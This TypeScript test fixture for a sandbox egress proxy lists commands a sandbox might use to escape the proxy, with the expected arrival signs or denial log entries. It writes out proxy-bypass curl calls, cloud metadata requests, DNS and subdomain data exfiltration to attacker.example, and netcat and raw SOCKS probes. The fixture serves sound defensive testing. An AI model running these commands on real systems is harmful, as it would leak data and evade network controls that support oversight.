// What a sandbox tries past its proxy, and the sign that it arrived: a line of `Place.arrived`, or what the probe then prints.

import { HOST, OUTSIDE, PROXY, WORLD } from "./place.ts";

export type Probe = readonly [what: string, line: string, sign: string | RegExp];

const get = (address: string): string => `curl -sS -m 2 --noproxy '*' 'http://${address}/'`;
const send = (address: string, port: string): string => `echo the-code | nc -u -w 1 ${address} ${port}`;
const ask = (server: string, name: string): string => `dig +time=1 +tries=1 +short @${server} ${name}`;
const ping = (address: string): string => `ping -c 1 -W 1 ${address}`;
/** With what a packet of QUIC begins with, of a version that does not exist. */
const QUIC = String.raw`printf '\300\032\052\072\112\010sallypor\010doctored'`;

/** These arrive from the outer network. */
export const OUTWARD: readonly Probe[] = [
  ["TCP", get(WORLD.v4), "world tcp 80"],
  ["TCP to where TLS is", get(`${WORLD.v4}:443`), "world tcp 443"],
  ["UDP", send(WORLD.v4, "9"), "world udp 9"],
  ["UDP, as QUIC", `${QUIC} | nc -u -w 1 ${WORLD.v4} 443`, "world udp 443"],
  ["ICMP", ping(WORLD.v4), "world icmp"],
  ["IPv6, TCP", get(`[${WORLD.v6}]`), "world tcp 80"],
  ["IPv6, UDP", send(WORLD.v6, "9"), "world udp 9"],
  ["DNS, asked outside", ask(WORLD.v4, "the-code.attacker.example"), "world udp 53"],
  ["DNS, asked outside by IPv6", ask(WORLD.v6, "the-code.attacker.example"), "world udp 53"],
  ["DNS, by its own resolver", "getent hosts world", /^10\.213\.8\.7 /],
  ["DNS, asked of the engine on the outer network", ask(OUTSIDE, "world"), /^10\.213\.8\.7$/m],
  ["the metadata address", get(WORLD.metadata), "world tcp 80"],
  ["the host on the outer network", get(`${OUTSIDE}:$HOST_PORT`), "host tcp"],
  ["an origin, but not by the proxy", get(`${OUTSIDE}:$ATTACKER_PORT`), "attacker"],
];

/** These arrive from the sandboxes' network, where compose/host.nft is not loaded. */
export const INWARD: readonly Probe[] = [
  ["the host, by TCP", get(`${HOST}:$HOST_PORT`), "host tcp"],
  ["the host, by UDP", send(HOST, "$HOST_PORT"), "host udp"],
  ["the host, by ICMP", ping(HOST), /1 received/],
  ["DNS, asked of the engine", ask(HOST, "sallyport"), /^10\.213\./m],
  ["another sandbox, by TCP", get("$OTHER:8080"), "other tcp 8080"],
  ["another sandbox, by UDP", send("$OTHER", "8080"), "other udp 8080"],
  ["another sandbox, by ICMP", ping("$OTHER"), /1 received/],
];

/** This does, where it may make raw packets and has link addresses, as in compose.yaml nobody. */
export const BY_LINK: Probe = [
  "the host, by its link",
  `ping -c 1 -W 1 -I eth0 ff02::1 >/dev/null; for one in $(ip -6 neigh | cut -d' ' -f1); do curl -sS -m 2 --noproxy '*' "http://[$one%25eth0]:$HOST_PORT/"; done`,
  "host tcp",
];

export type Attempt = readonly [what: string, line: string, record: string];

const by = (url: string, options = ""): string => `curl -sS -m 5 --noproxy none.test ${options} '${url}'`;
const tunnel = (authority: string): string => by(`http://${authority}/`, "--proxytunnel");
const socks = (url: string): string => by(url, `--proxy socks5h://${PROXY}:3128`);

/** What a sandbox asks of the proxy that no policy can have meant, and what the record says of it. */
export const ATTEMPTS: readonly Attempt[] = [
  ["the proxy's API", by(`http://${PROXY}:9128/healthz`), `GET ${PROXY}:9128 address-literal`],
  ["the proxy's API, by a tunnel", tunnel(`${PROXY}:9128`), `CONNECT ${PROXY}:9128 address-literal`],
  ["the proxy's API, by SOCKS", socks(`http://${PROXY}:9128/`), `CONNECT ${PROXY}:9128 address-literal`],
  ["its loopback", by("http://127.0.0.1:9128/healthz"), "GET 127.0.0.1:9128 address-literal"],
  ["its loopback, by a tunnel", tunnel("127.0.0.1:9128"), "CONNECT 127.0.0.1:9128 address-literal"],
  ["its loopback, by name", tunnel("localhost:9128"), "CONNECT localhost:9128 host-not-allowed"],
  ["its loopback, by IPv6", tunnel("[::1]:9128"), "CONNECT ::1:9128 address-literal"],
  ["its own name", tunnel("sallyport.internal:9128"), "CONNECT sallyport.internal:9128 port-not-allowed"],
  ["itself", tunnel(`${PROXY}:3128`), `CONNECT ${PROXY}:3128 address-literal`],
  [
    "the metadata address",
    by(`http://${WORLD.metadata}/latest/`),
    `GET ${WORLD.metadata}:80 address-literal`,
  ],
  [
    "the metadata address, by a tunnel",
    tunnel(WORLD.metadata),
    `CONNECT ${WORLD.metadata}:80 address-literal`,
  ],
  [
    "the metadata address, by SOCKS",
    socks(`http://${WORLD.metadata}/`),
    `CONNECT ${WORLD.metadata}:80 address-literal`,
  ],
  ["the host", by(`http://${HOST}:$HOST_PORT/`), `GET ${HOST}:$HOST_PORT address-literal`],
  [
    "the host on the outer network",
    tunnel(`${OUTSIDE}:$HOST_PORT`),
    `CONNECT ${OUTSIDE}:$HOST_PORT address-literal`,
  ],
  ["another sandbox", by("http://$OTHER:8080/"), "GET $OTHER:8080 address-literal"],
  ["another sandbox, by a tunnel", tunnel("$OTHER:8080"), "CONNECT $OTHER:8080 address-literal"],
  ["another sandbox, by name", by("http://other:8080/"), "GET other:8080 host-not-allowed"],
  ["an address of the world", by(`http://${WORLD.v4}/`), `GET ${WORLD.v4}:80 address-literal`],
  [
    "an address of the world, by IPv6",
    tunnel(`[${WORLD.v6}]:443`),
    `CONNECT ${WORLD.v6}:443 address-literal`,
  ],
  ...["own", "private", "metadata"].map((kind): Attempt => [
    `an allowed name whose address is ${kind}`,
    by(`http://${kind}.test:9128/`),
    `GET ${kind}.test:9128 address-${kind}`,
  ]),
  [
    "data in a name",
    by("https://dGhlLWNvZGU.attacker.example:$ATTACKER_PORT/"),
    "CONNECT dghllwnvzgu.attacker.example:$ATTACKER_PORT host-not-allowed",
  ],
  ["a name server", tunnel(`${WORLD.v4}:53`), `CONNECT ${WORLD.v4}:53 address-literal`],
  [
    "UDP, by SOCKS",
    String.raw`printf '\5\1\0\5\3\0\1\0\0\0\0\0\0' | nc -w 2 ${PROXY} 3128 | od`,
    "CONNECT command-not-allowed",
  ],
];
